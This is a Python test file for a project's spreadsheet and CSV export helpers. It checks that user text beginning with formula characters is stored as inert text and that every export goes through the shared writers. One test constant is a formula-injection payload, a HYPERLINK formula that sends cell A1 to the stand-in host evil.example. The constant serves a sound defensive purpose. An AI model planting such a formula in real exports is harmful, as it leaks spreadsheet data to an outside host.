"""Text that people type never becomes a live formula in a download."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sikap.lib import xlsx
from sikap.lib.csvexport import csv_text

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PREFIXED = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def _reopen(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def test_the_xlsx_writer_stores_formula_text_as_plain_text_and_keeps_numbers():
    workbook = xlsx.new_workbook()
    xlsx.add_sheet(
        workbook,
        "S",
        ["=H", "b"],
        [[text, 3] for text in PREFIXED]
        + [[-5, Decimal("2.5")], [dt.date(2026, 1, 2), "ok\x0cpage"]],
    )
    sheet = _reopen(workbook)["S"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=H"
    for row, text in enumerate(PREFIXED, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", text
        assert cell.value.strip() == text.strip()
        assert cell.quotePrefix
        assert sheet.cell(row=row, column=2).value == 3
    assert sheet.cell(row=8, column=1).value == -5
    assert sheet.cell(row=8, column=1).data_type == "n"
    assert sheet.cell(row=8, column=2).value == 2.5
    assert sheet.cell(row=9, column=2).value == "okpage"


def test_the_csv_writer_prefixes_formula_text_and_keeps_numbers():
    text = csv_text(["a", "b"], [{"a": value, "b": -3} for value in PREFIXED])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["a"] for row in rows] == ["'" + value for value in PREFIXED]
    assert {row["b"] for row in rows} == {"-3"}


ROOT = Path(__file__).resolve().parents[2]


def test_no_export_writes_a_sheet_or_csv_past_the_shared_writers():
    """Every spreadsheet or CSV written by the project goes through sikap.lib.xlsx/csvexport."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if "tests" in parts or "migrations" in parts or parts[:2] == ("lib", "xlsx.py"):
            continue
        if parts[:2] in {("lib", "csvexport.py")}:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path}:{node.lineno} csv.{node.attr}")
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(alias.name == "Workbook" for alias in node.names)
            ):
                offenders.append(f"{path}:{node.lineno} openpyxl.Workbook")
    assert offenders == []


@pytest.mark.parametrize("value", [3, 2.5, Decimal(1), None, True, dt.date(2026, 1, 1), "a=b"])
def test_values_that_are_not_formula_text_are_left_alone(value):
    assert xlsx.safe_cell(value) == value
    assert not xlsx.looks_like_formula(value)
